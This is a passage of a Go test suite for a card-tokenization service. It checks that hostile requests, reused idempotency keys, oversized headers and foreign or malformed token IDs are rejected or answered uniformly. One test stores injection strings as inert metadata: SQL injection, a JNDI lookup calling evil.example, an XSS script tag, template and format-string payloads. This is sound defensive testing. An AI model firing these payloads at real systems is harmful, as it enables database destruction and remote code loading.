		{name: "Idempotency-Key reused with another body", method: post, path: "/cde-import", key: k.all, body: good(`{"business_key":"pm_hostile_other"}`), header: map[string]string{"Idempotency-Key": hostileIdemKey}, status: 400, code: "idempotency_error", typ: "idempotency_error"},
	}
}

// hostileIdemKey is the Idempotency-Key of the request sent before the suite.
const hostileIdemKey = "hostile-suite-1"

// manyKeys returns a metadata object of n keys.
func manyKeys(n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = `"k` + strings.Repeat("x", i%5) + string(rune('a'+i%26)) + string(rune('a'+i/26)) + `":"v"`
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// manyHeaders returns n distinct short headers.
func manyHeaders(n int) map[string]string {
	h := make(map[string]string, n)
	for i := range n {
		h["X-H"+strconv.Itoa(i)] = "v"
	}
	return h
}

// flip changes one character of an API key into another valid one.
func flip(c byte) string {
	if c == 'A' {
		return "B"
	}
	return "A"
}

func TestHostileRequests(t *testing.T) {
	ts := newTestServer(t)
	k := newHostileKeys(t, ts)
	first := ts.do(t, http.MethodPost, "/cde-import", k.all, goodCard(`{"business_key":"pm_hostile_idem"}`), "Idempotency-Key", hostileIdemKey)
	require.Equal(t, http.StatusCreated, first.status, "body: %s", first.body)
	before := tokenCount(t, ts)

	requests := hostileRequests(k)
	require.GreaterOrEqual(t, len(requests), 60)
	names := make(map[string]bool)
	for _, r := range requests {
		require.False(t, names[r.name], "duplicate row %q", r.name)
		names[r.name] = true
		t.Run(r.name, func(t *testing.T) {
			res := ts.send(t, r)
			requireErrorAnswer(t, res, r.status, r.typ, r.code, r.param, hostilePAN, "4000056655665556")
		})
	}

	t.Run("still serving", func(t *testing.T) {
		res := ts.do(t, http.MethodGet, "/healthz", "", "")
		require.Equal(t, http.StatusOK, res.status)
		tokenize(t, ts, k.all, cardBody("pm_hostile_after", "5555555555554444"))
		assert.Equal(t, before+1, tokenCount(t, ts), "no hostile request stored a token")
	})
}

// tokenCount returns how many tokens the package database holds.
func tokenCount(t *testing.T, ts *testServer) int {
	t.Helper()
	var n int
	require.NoError(t, vaulttest.Pool(t, dbURL).QueryRow(context.Background(), `SELECT count(*) FROM tokens`).Scan(&n))
	return n
}

func TestUnknownForeignAndMalformedIDsLookAlike(t *testing.T) {
	ts := newTestServer(t)
	k := newHostileKeys(t, ts)
	ids := map[string]string{
		"random":    uuid.NewString(),
		"foreign":   k.foreign,
		"malformed": "not-a-uuid",
		"PAN":       hostilePAN,
	}
	for _, r := range []struct{ method, suffix string }{
		{http.MethodGet, ""}, {http.MethodPost, "/detokenize"}, {http.MethodDelete, ""},
	} {
		want := ts.do(t, r.method, "/tokens/"+uuid.Nil.String()+r.suffix, k.all, "")
		require.Equal(t, http.StatusNotFound, want.status)
		for name, id := range ids {
			got := ts.do(t, r.method, "/tokens/"+id+r.suffix, k.all, "")
			assert.Equal(t, want.status, got.status, "%s %s id", r.method, name)
			assert.JSONEq(t, string(want.body), string(got.body), "%s %s id answers like an unknown one", r.method, name)
			assert.Equal(t, want.header.Get("Content-Length"), got.header.Get("Content-Length"))
		}
	}
	assert.Equal(t, http.StatusOK, ts.do(t, http.MethodGet, "/tokens/"+k.foreign, k.other, "").status, "the foreign token exists")
}

func TestInjectionStringsAreInert(t *testing.T) {
	ts := newTestServer(t)
	key := ts.key(t)
	metadata := map[string]string{
		"business_key": "'; DROP TABLE tokens;--",
		"template":     "{{.}} {{template \"x\"}} {{printf \"%s\" .}}",
		"jndi":         "${jndi:ldap://evil.example/a}",
		"sql":          "' OR '1'='1",
		"html":         "<script>alert(1)</script>",
		"format":       "%s%n%x%d",
	}
	md, err := json.Marshal(metadata)
	require.NoError(t, err)
	id := tokenize(t, ts, key, goodCard(string(md)))

	got := ts.do(t, http.MethodGet, "/tokens/"+id, key, "").json(t)
	assert.Equal(t, metadata["business_key"], got["business_key"])
	for k, v := range metadata {
		if k != "business_key" {
			assert.Equal(t, v, got["metadata"].(map[string]any)[k], k)
		}
	}
	list := ts.do(t, http.MethodGet, "/tokens?business_key="+url.QueryEscape(metadata["business_key"]), key, "").json(t)
	require.Len(t, list["data"], 1)
	none := ts.do(t, http.MethodGet, "/tokens?business_key="+url.QueryEscape("' OR '1'='1"), key, "").json(t)
	assert.Empty(t, none["data"])
	assert.Positive(t, tokenCount(t, ts), "the tokens table is still there")
}

func TestOversizedHeadersAreRefusedBeforeTheAPI(t *testing.T) {
	ts := newTestServer(t)
	// Over net/http's MaxHeaderBytes (1 MiB by default, 32 KiB in `cardvault
	// serve`) the Go server answers 431 itself, in plain text, before any
	// handler; the server goes on serving.
	res := ts.send(t, hostileRequest{method: http.MethodGet, path: "/tokens", key: ts.key(t),
		header: map[string]string{"X-Pad": strings.Repeat("p", 2<<20)}})
	assert.Equal(t, http.StatusRequestHeaderFieldsTooLarge, res.status)
	assert.Equal(t, http.StatusOK, ts.do(t, http.MethodGet, "/healthz", "", "").status)
}
